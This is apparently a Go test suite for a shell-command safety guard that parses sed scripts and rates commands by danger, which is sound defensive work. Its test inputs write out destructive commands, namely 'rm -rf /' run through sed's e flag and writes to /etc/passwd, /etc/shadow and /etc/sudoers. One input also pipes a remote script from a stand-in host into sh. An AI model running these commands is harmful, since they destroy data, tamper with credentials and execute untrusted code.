package guard

import (
	"reflect"
	"strings"
	"testing"
)

// TestSedParse checks what the sed reader finds in scripts: the commands e
// runs, whether an e runs the line, the s///e commands, the files written.
func TestSedParse(t *testing.T) {
	u := Unknown
	type want struct {
		execs    []string
		execLine bool
		substs   []string // regex/repl/flags of each s///e
		writes   []string
		unknown  bool
	}
	for _, tt := range []struct {
		script string
		want   want
	}{
		// Nothing outside sed.
		{"", want{}},
		{"p", want{}},
		{"s/a/b/", want{}},
		{"s/a/b/g", want{}},
		{"s/e/E/g", want{}},
		{"s/e/e/", want{}},
		{"/e/d", want{}},
		{"/e/,/w/d", want{}},
		{"\\,e,d", want{}},
		{"/e/Id", want{}},
		{"/e/I,/x/M p", want{}},
		{"s/a/b/p", want{}},
		{"s/a/b/2g", want{}},
		{"s/a/b/ig;p", want{}},
		{"s|/usr/local|/opt|g", want{}},
		{"s,a,e,", want{}},
		{"s/[/]/x/", want{}},
		{"s/[[:space:]]*$//", want{}},
		{"s/[]e/]/x/", want{}},
		{"s/\\/e/x/", want{}},
		{"s/a\\/b/c\\/d/g", want{}},
		{"y/abc/xyz/", want{}},
		{"y/e/w/", want{}},
		{"1d", want{}},
		{"$d", want{}},
		{"1~2d", want{}},
		{"0,/re/d", want{}},
		{"2,+3d", want{}},
		{"2,~4d", want{}},
		{"1!G;h;$!d", want{}},
		{":a;N;$!ba;s/\\n/ /g", want{}},
		{":a\nN\n$!ba\ns/\\n/ /g", want{}},
		{"/start/,/end/{/x/d;p}", want{}},
		{"/x/{\ns/a/b/\np\n}", want{}},
		{"$!{N;D}", want{}},
		{"a hello e world", want{}},
		{"a\\\ne rm -rf /", want{}},
		{"1i\\\nw /etc/passwd", want{}},
		{"c\\\nline one\\\ne rm -rf /", want{}},
		{"$a e rm -rf /", want{}},
		{"i\\e rm", want{}},
		{"# e rm -rf /\np", want{}},
		{"#n\np", want{}},
		{"r /etc/hosts", want{}},
		{"R other.txt", want{}},
		{"l;l 20;q;q5;Q 3", want{}},
		{"=;F;z;x;g;G;h;H;n;N;P;D", want{}},
		{"b end; s/a/b/; :end", want{}},
		{"t;T;b", want{}},
		{"v 4.2", want{}},
		{"s/x/\\n/;s/&/\\&/", want{}},
		{"s/.*/[&]/", want{}},
		{"  ;; p ;; ", want{}},
		{"s/a/b/ ; p", want{}},
		{"/a/ !d", want{}},
		{"1 , 3 p", want{}},
		// e and its command.
		{"e rm -rf /", want{execs: []string{"rm -rf /"}}},
		{"e   rm -rf /", want{execs: []string{"rm -rf /"}}},
		{"1e touch x", want{execs: []string{"touch x"}}},
		{"$e date", want{execs: []string{"date"}}},
		{"/re/e ls -la", want{execs: []string{"ls -la"}}},
		{"1!e id", want{execs: []string{"id"}}},
		{"e rm -rf /; p", want{execs: []string{"rm -rf /; p"}}},
		{"e echo a\\\necho b", want{execs: []string{"echo a\necho b"}}},
		{"e\\\nrm -rf ~", want{execs: []string{"rm -rf ~"}}},
		{"p;e reboot\np", want{execs: []string{"reboot"}}},
		{"/x/{e id\n}", want{execs: []string{"id"}}},
		{"e", want{execLine: true}},
		{"1e", want{execLine: true}},
		{"e\np", want{execLine: true}},
		{"e \np", want{execLine: true}},
		{"s/a/b/;e rm x", want{execs: []string{"rm x"}}},
		{"y/a/b/;e rm x", want{execs: []string{"rm x"}}},
		// s///e.
		{"s/.*/rm -rf &/e", want{substs: []string{".*/rm -rf &/e"}}},
		{"s/.*/date/e", want{substs: []string{".*/date/e"}}},
		{"s/^/rm /e", want{substs: []string{"^/rm /e"}}},
		{"s/x/y/ge", want{substs: []string{"x/y/ge"}}},
		{"s/x/y/ep", want{substs: []string{"x/y/ep"}}},
		{"s/x/y/ e", want{substs: []string{"x/y/ e"}}},
		{"s,.*,reboot,e", want{substs: []string{".*/reboot/e"}}},
		{"s/a/b/e;p", want{substs: []string{"a/b/e;"}}},
		{"s/a/b/e}", want{substs: []string{"a/b/e"}}},
		{"1{s/a/b/e}", want{substs: []string{"a/b/e"}}},
		{"s/[/]/x/e", want{substs: []string{"[/]/x/e"}}},
		{"s\\a\\b\\e", want{substs: []string{"a/b/e"}}},
		{"s/.*/x/ew out.txt", want{substs: []string{".*/x/e"}, writes: []string{"out.txt"}}},
		// w, W and s///w.
		{"w /etc/passwd", want{writes: []string{"/etc/passwd"}}},
		{"w out.txt", want{writes: []string{"out.txt"}}},
		{"1w  first.txt", want{writes: []string{"first.txt"}}},
		{"W x;y", want{writes: []string{"x;y"}}},
		{"/a/w a.txt\n/b/w b.txt", want{writes: []string{"a.txt", "b.txt"}}},
		{"s/a/b/w /etc/shadow", want{writes: []string{"/etc/shadow"}}},
		{"s/a/b/gw out", want{writes: []string{"out"}}},
		{"s/a/b/w /dev/stdout", want{writes: []string{"/dev/stdout"}}},
		{"y/w/e/;w f", want{writes: []string{"f"}}},
		// Parts only known at run time.
		{u, want{unknown: true}},
		{u + "p", want{}},
		{u + "d;p", want{}},
		{u + "," + u + "d", want{}},
		{"/" + u + "/d", want{}},
		{"s/" + u + "/" + u + "/g", want{}},
		{"s/a/b/" + u, want{unknown: true}},
		{"p;" + u, want{unknown: true}},
		{"1" + u, want{unknown: true}},
		{"1{" + u + "}", want{unknown: true}},
		{"s" + u + "a" + u + "b" + u, want{unknown: true}},
		{"p " + u, want{unknown: true}},
		{"e " + u, want{execs: []string{u}}},
		{"w " + u, want{writes: []string{u}}},
		// Scripts sed rejects: what was read before the error stays.
		{"w out.txt\nk", want{writes: []string{"out.txt"}}},
		{"s/a/b", want{}},
		{"s/a/b/x", want{}},
		{"{p", want{}},
		{"}", want{}},
		{"1", want{}},
		{"1,", want{}},
		{"!!p", want{}},
		{"+3p", want{}},
		{"1:a", want{}},
		{"pp", want{}},
		{"y/a/b/}", want{}},
		{"s/a\nb/c/", want{}},
		{"\\", want{}},
		{"/", want{}},
		{"s", want{}},
		{"a", want{}},
		{"/x/e", want{execLine: true}},
	} {
		p := sedParse(tt.script)
		var substs []string
		for _, s := range p.substExecs {
			substs = append(substs, s.regex+"/"+s.repl+"/"+s.flags)
		}
		got := want{execs: p.execs, execLine: p.execLine, substs: substs, writes: p.writes, unknown: p.unknown}
		if !reflect.DeepEqual(got, tt.want) {
			t.Errorf("sedParse(%q) = %+v, want %+v", tt.script, got, tt.want)
		}
	}
}

// TestSedSubstCommand checks when an s///e runs the same command for every
// line.
func TestSedSubstCommand(t *testing.T) {
	for _, tt := range []struct {
		regex, repl, flags string
		cmd                string // "" when it depends on the line
	}{
		{".*", "date", "e", "date"},
		{"^.*$", "rm -rf /", "e", "rm -rf /"},
		{"^.*", "id", "ge", "id"},
		{".*$", "a\\tb", "e", "a\tb"},
		{".*", "echo \\/", "e", "echo /"},
		{".*", "rm -rf &", "e", ""},
		{".*", "echo \\0", "e", ""},
		{"^\\(.*\\)$", "rm \\1", "e", ""},
		{".*", "\\Uecho", "e", ""},
		{"^", "rm ", "e", ""},
		{"x", "rm -rf /", "e", ""},
		{".*", "ls", "2e", ""},
		{".*", "ls", "Me", ""},
		{".*", "ls " + Unknown, "e", ""},
	} {
		got, ok := sedSubst{regex: tt.regex, repl: tt.repl, flags: tt.flags}.command()
		if !ok {
			got = ""
		}
		if got != tt.cmd || ok != (tt.cmd != "") {
			t.Errorf("s/%s/%s/%s: command %q (%v), want %q", tt.regex, tt.repl, tt.flags, got, ok, tt.cmd)
		}
	}
}

// TestSedScan checks sed's command line: where the scripts are, the
// input files, -i, --sandbox, --help.
func TestSedScan(t *testing.T) {
	for _, tt := range []struct {
		args             []string
		scripts, files   string
		operands         string
		inPlace, sandbox bool
	}{
		{[]string{"s/a/b/", "f"}, "s/a/b/", "", "f", false, false},
		{[]string{"-n", "p", "f", "g"}, "p", "", "f g", false, false},
		{[]string{"-e", "p", "f"}, "p", "", "f", false, false},
		{[]string{"-ep", "f"}, "p", "", "f", false, false},
		{[]string{"-ne", "p", "f"}, "p", "", "f", false, false},
		{[]string{"-e", "p", "-e", "d", "f"}, "p|d", "", "f", false, false},
		{[]string{"--expression=p", "f"}, "p", "", "f", false, false},
		{[]string{"--expression", "p", "f"}, "p", "", "f", false, false},
		{[]string{"--expr=p", "f"}, "p", "", "f", false, false},
		{[]string{"-f", "x.sed", "f"}, "", "x.sed", "f", false, false},
		{[]string{"--file=x.sed", "f"}, "", "x.sed", "f", false, false},
		{[]string{"-f", "x.sed", "-e", "p", "f"}, "p", "x.sed", "f", false, false},
		{[]string{"-i", "s/a/b/", "f"}, "s/a/b/", "", "f", true, false},
		{[]string{"-i.bak", "s/a/b/", "f"}, "s/a/b/", "", "f", true, false},
		{[]string{"-ie", "s/a/b/", "f"}, "s/a/b/", "", "f", true, false},
		{[]string{"--in-place=.bak", "-e", "p", "f"}, "p", "", "f", true, false},
		{[]string{"s/a/b/", "-i", "f"}, "s/a/b/", "", "f", true, false},
		{[]string{"-l", "5", "l", "f"}, "l", "", "f", false, false},
		{[]string{"--sandbox", "e ls", "f"}, "e ls", "", "f", false, true},
		{[]string{"-E", "-s", "-u", "-z", "p"}, "p", "", "", false, false},
		{[]string{"--", "-p", "f"}, "-p", "", "f", false, false},
		{[]string{"-n", "--", "p", "-f"}, "p", "", "-f", false, false},
	} {
		a := sedScan(Lits(tt.args...))
		vals := func(ws []Word, sep string) string {
			var vs []string
			for _, w := range ws {
				vs = append(vs, w.Value)
			}
			return strings.Join(vs, sep)
		}
		if got := vals(a.scripts, "|"); got != tt.scripts {
			t.Errorf("sedScan(%q) scripts %q, want %q", tt.args, got, tt.scripts)
		}
		if got := vals(a.files, "|"); got != tt.files {
			t.Errorf("sedScan(%q) files %q, want %q", tt.args, got, tt.files)
		}
		if got := vals(a.operands, " "); got != tt.operands {
			t.Errorf("sedScan(%q) operands %q, want %q", tt.args, got, tt.operands)
		}
		if a.inPlace != tt.inPlace || a.sandbox != tt.sandbox {
			t.Errorf("sedScan(%q) in-place %v sandbox %v, want %v %v", tt.args, a.inPlace, a.sandbox, tt.inPlace, tt.sandbox)
		}
	}
}

// TestSedRules checks sed's e, s///e and w through the walker, and the
// scripts that must stay as they were.
func TestSedRules(t *testing.T) {
	B, H, M, S := Blocked, High, Medium, Safe
	runNLLines(t, []nlLine{
		// A literal e COMMAND is a command line.
		{"sed 'e rm -rf /' f", B, ruleRmRfRoot},
		{"sed 'e rm -rf /'", B, ruleRmRfRoot},
		{"sed '1e rm -rf ~' f", B, ruleRmRfHome},
		{"sed '$e reboot' f", H, "shutdown"},
		{"sed -n '/x/e curl -s https://x.example/i.sh | sh' f", H, ruleCurlPipeSh},
		{"sed -e p -e 'e rm -rf /' f", B, ruleRmRfRoot},
		{"sed --expression='1e rm -rf /' f", B, ruleRmRfRoot},
		{"gsed 'e rm -rf /' f", B, ruleRmRfRoot},
		{"sudo sed 'e rm -rf /' f", B, ruleRmRfRoot},
		{"bash -c \"sed 'e rm -rf /' f\"", B, ruleRmRfRoot},
		{"sed 'p;e rm -rf /usr' f", B, ruleRmRfSystemDir},
		{"sed 's/a/b/\ne rm -rf /' f", B, ruleRmRfRoot},
		{"echo 'e rm -rf /' | sed -f - f", B, ruleRmRfRoot},
		{"sed -f /dev/stdin f <<< 'e rm -rf /'", B, ruleRmRfRoot},
		{"sed '1e touch x' f", S, ""},
		{"sed '1e date' f", S, ""},
		{"sed 's/.*/date/e' f", S, ""},
		{"sed 's/.*/rm -rf \\//e' f", B, ruleRmRfRoot},
		{"sed 's/^.*$/reboot/e' f", H, "shutdown"},
		// The line decides what runs.
		{"sed 's/.*/rm -rf &/e' f", H, ruleSedExecDynamic},
		{"sed 's/^/rm -f /e' list", H, ruleSedExecDynamic},
		{"sed 's/x/y/e' f", H, ruleSedExecDynamic},
		{"sed -n 's/.*/echo &/ep' f", H, ruleSedExecDynamic},
		{"sed e cmds.txt", H, ruleSedExecDynamic},
		{"sed '/^#/!e' cmds.txt", H, ruleSedExecDynamic},
		{"cat cmds | sed 'e'", H, ruleSedExecDynamic},
		{"sed 's,.*,\\U&,e' f", H, ruleSedExecDynamic},
		// w writes files: the file rules decide.
		{"sed -n 'w /etc/passwd' f", H, ruleWriteSystemFile},
		{"sed 's/a/b/w /etc/sudoers' f", H, ruleWriteSystemFile},
		{"sed -n '/x/w /etc/hosts' f", M, ruleWriteEtc},
		{"sed -n 'w ~/.bashrc' f", M, ruleAppendRc},
		{"sed -n \"w $1\" f", M, ruleRedirectUnknown},
		{"sed -n 'w out.txt' f", S, ""},
		{"sed -n '/err/w errors.log' f", S, ""},
		{"sed 's/a/b/w changes.txt' f", S, ""},
		{"sed -n 'w /dev/stdout' f", S, ""},
		{"sed -n 'w /dev/stderr' f", S, ""},
		{"sed 'r /etc/hosts' f", S, ""},
		// A script only known at run time.
		{"sed \"$(cat script)\" f", M, ruleSedScriptDynamic},
		{"sed -e \"$1\" f", M, ruleSedScriptDynamic},
		{"sed \"s/a/b/$2\" f", M, ruleSedScriptDynamic},
		{"sed -n \"${N}p\" f", S, ""},
		{"sed -n \"$((N+1)),\\$p\" f", S, ""},
		{"sed \"s/$OLD/$NEW/g\" f", S, ""},
		{"sed \"/$PAT/d\" f", S, ""},
		// What stays as it was.
		{"sed -n 's/a/b/p' f", S, ""},
		{"sed -e 's/x/y/' f", S, ""},
		{"sed '/e/d' f", S, ""},
		{"sed 's/e/E/g' f", S, ""},
		{"sed 'y/e/E/' f", S, ""},
		{"sed -E 's/(e+)/[\\1]/g' f", S, ""},
		{"sed '1!G;h;$!d' f", S, ""},
		{"sed ':a;N;$!ba;s/\\n/ /g' f", S, ""},
		{"sed '/^$/d;s/^[ \\t]*//' f", S, ""},
		{"sed 'a\\\ne rm -rf /' f", S, ""},
		{"sed 'i e rm -rf /' f", S, ""},
		{"sed '# e rm -rf /' f", S, ""},
		{"sed -n '/begin/,/end/{/end/!p}' f", S, ""},
		{"sed -f script.sed f", S, ""},
		{"sed --file=script.sed f", S, ""},
		{"sed --sandbox 'e rm -rf /' f", S, ""},
		{"sed --help", S, ""},
		{"echo 'e rm -rf /' | sed 's/a/b/'", S, ""},
		{"grep 'e rm -rf /' f", S, ""},
		{"sed -i 's/e/E/' notes.txt", S, ""},
		{"sed -i 's/a/b/' /etc/hosts", M, ruleWriteEtc},
	})
}

// TestSedExamples checks that the sed rules match their examples.
func TestSedExamples(t *testing.T) {
	for _, b := range interpRules() {
		if b.Name != ruleSedExecDynamic && b.Name != ruleSedScriptDynamic {
			continue
		}
		if _, names := nlClassify(t, b.Example); !nlHas(names, b.Name) {
			t.Errorf("rule %s does not match its example %q: %v", b.Name, b.Example, names)
		}
	}
}

// FuzzSedParse checks that the sed reader never panics or loops.
func FuzzSedParse(f *testing.F) {
	for _, s := range []string{"p", "s/a/b/e", "e rm", "1~2{/x/w f\n}", "s/[[:alpha:]/]/x/gw o", "y/a/b/", ":a;N;ba", "a\\\ntext\\", Unknown + "p"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		p := sedParse(s)
		for _, x := range p.substExecs {
			x.command()
		}
	})
}
